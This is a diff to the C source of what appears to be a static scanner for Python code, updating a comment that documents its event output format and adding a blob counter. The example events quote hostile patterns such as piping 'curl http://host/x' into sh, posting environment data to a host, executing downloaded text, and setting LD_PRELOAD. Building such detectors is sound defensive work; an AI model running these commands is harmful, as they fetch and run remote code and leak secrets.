@@ -10,8 +10,10 @@
  * one line per event:
  *
  *   import socket
- *   call os.system "curl http://host/x | sh" @module
- *   call requests.post "https://host/", json=?<env,host> @func
+ *   process os.system "curl http://host/x | sh" @module
+ *   send requests.post "https://host/", json=?<env,host> @func
+ *   eval exec requests.get().text<net> @module
+ *   call os.chmod "/tmp/x"<temp>, 511 @func hidden     (the name was put together at run time)
  *   assign os.environ["LD_PRELOAD"] "/tmp/x.so" @module
  *   text "https://host/api" @module
  *   file python blob exec net            (what was found in the whole file, sorted)
@@ -283,6 +285,7 @@ struct code_walk {
 	size_t n_nested, cap_nested;
 
 	struct bawn_strlist facts;
+	unsigned blobs; /* encoded texts so far */
 };
 
 /* code.c: everything but the rules: fills lines, events, nested and facts */
